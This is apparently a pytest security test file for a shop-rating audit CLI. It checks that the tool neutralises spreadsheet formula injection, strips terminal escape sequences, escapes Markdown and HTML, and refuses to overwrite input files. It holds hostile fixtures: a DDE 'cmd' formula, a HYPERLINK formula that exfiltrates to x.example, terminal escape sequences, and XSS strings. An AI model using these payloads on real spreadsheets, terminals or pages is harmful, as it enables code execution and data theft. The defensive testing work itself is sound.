"""What the tool writes never carries an attack or destroys data: rejected cells that a
spreadsheet would run as formulas are neutralised, terminal escapes and Rich markup in data
never reach a terminal, data in Markdown is escaped, and no output overwrites an input."""

from __future__ import annotations

import csv
import os

import pytest
from builders import put
from typer.testing import CliRunner

from shopscore.cli.app import app

AS_OF = "2026-11-22T00:00:00+08:00"
HEADER = ("shop_id,order_id,line_id,buyer_id,item_id,created_at,completed_at,status,amount,"
          "rated_at,credit,dsr_description,dsr_service,dsr_shipping")
GOOD = "2026-10-01 10:00:00,2026-10-04 10:00:00,success"

FORMULAS = ["=1+1", "@SUM(A1:A9)", '=HYPERLINK("http://x.example/?"&A1,"click")',
            "-2+3+cmd|' /C calc'!A0", "+1+1", "\t=1+1", "\r=1+1"]


def cli(*args, env=None):
    return CliRunner().invoke(app, [str(a) for a in args], env=env)


def user_error(result) -> str:
    assert result.exit_code == 2, (result.exit_code, result.stderr, repr(result.exception))
    err = result.stderr
    assert err.startswith("shopscore: error: ") and len(err.strip().splitlines()) == 1, err
    return err


# --- --rejects: no formula reaches a spreadsheet --------------------------------------------

def test_rejected_cells_that_would_run_as_formulas_are_neutralised(tmp_path, monkeypatch):
    # Each bad status is a formula payload; the file itself is named like a formula. In the
    # rejects file every such cell starts with ' (OWASP), and a plain number stays a number.
    monkeypatch.chdir(tmp_path)
    rows = [["s1", f"o{k}", "L1", f"b{k}", "i1", "2026-10-01 10:00:00", "", v, "", "", "", "",
             "", ""] for k, v in enumerate(FORMULAS)]
    rows.append(f"s1,o99,L1,b99,i1,{GOOD},10,2026-10-05 10:00:00,positive,5,-1,5".split(","))
    rows.append(f"s1,o98,L1,b98,i1,{GOOD},10,2026-10-05 10:00:00,positive,5,5,5".split(","))
    with open(tmp_path / "=cmd.csv", "w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh, lineterminator="\n", quoting=csv.QUOTE_ALL)
        writer.writerow(HEADER.split(","))
        writer.writerows(rows)
    result = cli("audit", "=cmd.csv", "--as-of", AS_OF, "--format", "json",
                 "--rejects", "rejects.csv")
    assert result.exit_code in (0, 1), result.stderr
    with open(tmp_path / "rejects.csv", newline="", encoding="utf-8") as fh:
        listed = list(csv.DictReader(fh))
    assert len(listed) == len(FORMULAS) + 1
    for row in listed:
        assert row["file"] == "'=cmd.csv", row
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            assert not cell.startswith("-") or cell == "-1", row
    values = [row["value"] for row in listed if row["reason"] == "bad_status"]
    assert values == ["'" + v.strip() for v in FORMULAS]  # status words are read stripped
    assert [row["value"] for row in listed if row["reason"] == "bad_dsr"] == ["-1"]


# --- terminal output: no escape sequence, no markup from data -------------------------------

HOSTILE_SHOP = "\x1b[2J\x1b]0;pwned\x07shop\x9b31m[bold]x[/bold]\u202e"
HOSTILE_BUYER = "\x1b]8;;http://evil.example\x1b\\nick\x1b]8;;\x1b\\\x07\x08"


@pytest.fixture
def hostile(tmp_path):
    return put(tmp_path / "trades.csv", f"{HEADER}\n"
               f'"{HOSTILE_SHOP}",o1,L1,"{HOSTILE_BUYER}",i1,{GOOD},10,2026-10-05 10:00:00,'
               "positive,5,5,5\n"
               f'"{HOSTILE_SHOP}",o2,L1,b2,i2,{GOOD},10,2026-10-05 10:00:00,positive,5,5,bad\n')


WIDE = {"COLUMNS": "300", "NO_COLOR": "1", "TERM": "dumb"}


@pytest.mark.parametrize("command", [
    ["audit", "--as-of", AS_OF], ["audit", "--as-of", AS_OF, "--detail"],
    ["explain", "--order", "o1", "--as-of", AS_OF], ["whatif", "--as-of", AS_OF],
    ["forecast", "--as-of", AS_OF], ["validate"]])
def test_table_output_strips_control_characters_from_data(hostile, command):
    result = cli(command[0], hostile, *command[1:], env=WIDE)
    assert result.exit_code in (0, 1), (result.exit_code, result.stderr)
    for stream in (result.stdout, result.stderr):
        assert not any(ch in stream for ch in "\x1b\x07\x08\x9b\u202e"), repr(stream[:500])
    if command[0] != "validate":
        assert "shop" in result.stdout


def test_markup_in_data_is_shown_as_written(hostile):
    result = cli("audit", hostile, "--as-of", AS_OF, env=WIDE)
    assert "[bold]x[/bold]" in result.stdout, result.stdout


def test_stderr_names_a_hostile_file_without_its_escapes(tmp_path):
    name = tmp_path / "\x1b[31mred\x07.csv"
    err = user_error(cli("audit", name, "--as-of", AS_OF))
    assert "\x1b" not in err and "\x07" not in err and "red" in err, repr(err)


# --- Markdown: data never breaks out --------------------------------------------------------

def test_markdown_escapes_data(tmp_path):
    shop = "a\n### pwned | x\n<script>alert(1)</script><img src=x onerror=alert(1)>`*_[l](u)"
    path = put(tmp_path / "trades.csv", f"{HEADER}\n"
               f'"{shop}",o1,L1,b1,i1,{GOOD},10,2026-10-05 10:00:00,positive,5,5,5\n')
    result = cli("audit", path, "--as-of", AS_OF, "--format", "markdown")
    assert result.exit_code == 0, result.stderr
    text = result.stdout
    assert "<script" not in text and "<img" not in text, text
    heading = [line for line in text.splitlines() if line.startswith("### ")]
    assert len(heading) == 1 and "pwned" in heading[0], text
    # One heading line; `#` inside it is text (a line of ours never starts with data), no tag
    # opens (`&lt;`), a pipe cannot split a table cell.
    assert heading[0].startswith("### Shop a ### pwned \\| x &lt;script>"), heading
    assert "\\[l\\](u)" in heading[0] and "\\`\\*\\_" in heading[0], heading


# --- no output overwrites an input ----------------------------------------------------------

@pytest.fixture
def trades(tmp_path):
    return put(tmp_path / "trades.csv", f"{HEADER}\n"
               f"s1,o1,L1,b1,i1,{GOOD},10,2026-10-05 10:00:00,positive,5,5,5\n"
               f"s1,o2,L1,b2,i2,{GOOD},10,2026-10-05 10:00:00,positive,5,5,bad\n")


@pytest.mark.parametrize("option", ["--rejects", "--history"])
def test_an_audit_output_that_is_its_input_is_refused(trades, option):
    before = trades.read_bytes()
    err = user_error(cli("audit", trades, "--as-of", AS_OF, option, trades))
    assert option in err and "input file" in err, err
    assert trades.read_bytes() == before


def test_an_output_that_is_the_input_by_another_name_is_refused(trades, tmp_path):
    other = tmp_path / "same.csv"
    os.link(trades, other)
    before = trades.read_bytes()
    user_error(cli("audit", trades, "--as-of", AS_OF, "--rejects", other))
    relative = os.path.relpath(trades)  # the same path, written differently
    user_error(cli("validate", trades, "--rejects", relative))
    assert trades.read_bytes() == before


def test_report_html_over_the_input_is_refused(trades, tmp_path):
    before = trades.read_bytes()
    err = user_error(cli("report", trades, "--as-of", AS_OF, "--html", trades))
    assert "--html" in err, err
    ratings = put(tmp_path / "ratings.csv", "order_id,line_id,rated_at,credit\n")
    user_error(cli("report", trades, "--ratings", ratings, "--as-of", AS_OF, "--html", ratings))
    assert trades.read_bytes() == before


def test_an_output_inside_an_input_directory_is_refused(trades, tmp_path):
    before = trades.read_bytes()
    user_error(cli("audit", tmp_path, "--as-of", AS_OF, "--rejects", trades))
    assert trades.read_bytes() == before
